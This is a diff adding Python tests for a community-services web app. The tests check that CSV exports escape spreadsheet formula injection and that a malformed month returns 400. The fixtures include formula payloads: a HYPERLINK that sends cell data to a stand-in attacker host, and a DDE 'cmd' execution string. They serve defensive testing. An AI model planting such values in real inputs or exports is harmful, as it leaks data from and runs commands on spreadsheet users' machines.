@@ -1,5 +1,7 @@
 """Hostile input from outside, over HTTP, on both databases: every one of these was a 500 (or was
 stored as sent) and must be a clear 400 with nothing written."""
+import csv
+import io
 import re
 
 import pytest
@@ -8,6 +10,7 @@ from community.demo import DEMO_PASSWORD
 from community.demo import seed_demo
 from models.reports import ReportEvent
 from models.reports import Report
+from reports import rates
 
 
 @pytest.fixture
@@ -123,3 +126,40 @@ def test_a_notice_scheduled_at_the_calendars_edge_is_a_400_page(client, town):
                                                    "send_at": "0001-01-01T00:00"})
     assert answer.status_code == 400
     assert "发送时间" in answer.get_data(as_text=True)
+
+
+def test_a_month_at_the_calendars_edge_is_a_400_in_the_rates(client, town):
+    answer = client.get("/api/mp/staff/rates?month=0001-01", headers=town.staff())
+    assert (answer.status_code, answer.json["error"]["code"]) == (400, "bad_filter")
+
+
+# -- CSV exports ----------------------------------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"点击领奖")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def _table(answer):
+    assert answer.status_code == 200 and answer.mimetype == "text/csv"
+    return list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
+
+
+def test_merchant_names_cannot_smuggle_formulas_into_the_red_card_totals(client, town):
+    """A merchant onboarded as `=HYPERLINK(...)` ran as a formula in the secretary's spreadsheet."""
+    secretary = town.staff()
+    for name in FORMULAS:
+        made = client.post("/api/mp/staff/redcard/merchants", headers=secretary,
+                           json={"name": name, "address": "八家庄路 12 号", "category": "餐饮"})
+        assert made.status_code == 201, made.json
+    cells = [row[0] for row in _table(client.get("/api/mp/staff/redcard/totals.csv", headers=secretary))[1:]]
+    assert {"'" + name for name in FORMULAS} <= set(cells)
+    assert not [cell for cell in cells if cell[0] in "=+-@"]
+
+
+def test_no_export_cell_starts_a_formula(database):
+    """The rates export (grid, staff and category names) goes through the same writer; a tab or
+    carriage return in front of a formula is neutralised too."""
+    labels = ["=cmd|' /C calc'!A0", "\t=1+1", "\r@SUM(A1)", "第一网格"]
+    rows = [rates.Row(key=i, label=label, cases=0, response_rate=None, on_time_resolution_rate=None,
+                      resolution_rate=None, satisfaction_rate=None, mean_hours_to_respond=None,
+                      mean_hours_to_resolve=None, overdue=0) for i, label in enumerate(labels)]
+    table = list(csv.reader(io.StringIO(rates.to_csv(rows).lstrip("\ufeff"))))
+    assert [row[1] for row in table[1:]] == ["'=cmd|' /C calc'!A0", "'\t=1+1", "'\r@SUM(A1)", "第一网格"]
